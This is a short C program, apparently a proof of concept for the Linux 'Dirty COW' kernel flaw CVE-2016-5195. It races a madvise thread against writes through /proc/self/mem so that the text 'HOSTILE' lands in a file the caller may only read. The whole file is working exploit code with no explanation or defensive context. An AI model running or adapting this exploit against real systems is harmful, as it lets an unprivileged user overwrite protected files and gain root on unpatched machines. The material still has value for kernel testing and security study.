/* SPDX-License-Identifier: Apache-2.0 */
/* CVE-2016-5195: drop a private page while it is written through /proc/self/mem. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

static char *map;
static volatile int stop;

static void *drop(void *unused)
{
	(void)unused;
	while (!stop)
		madvise(map, 4096, MADV_DONTNEED);
	return NULL;
}

int main(int argc, char **argv)
{
	int fd = argc > 2 ? open(argv[1], O_RDONLY) : -1;
	int mem = open("/proc/self/mem", O_RDWR);
	pthread_t t;

	if (fd < 0 || mem < 0)
		return 1;
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED)
		return 64;
	time_t end = time(NULL) + atoi(argv[2]) + 1;

	pthread_create(&t, NULL, drop, NULL);
	while (time(NULL) < end)
		if (pwrite(mem, "HOSTILE", 7, (off_t)(uintptr_t)map) < 0)
			break;
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
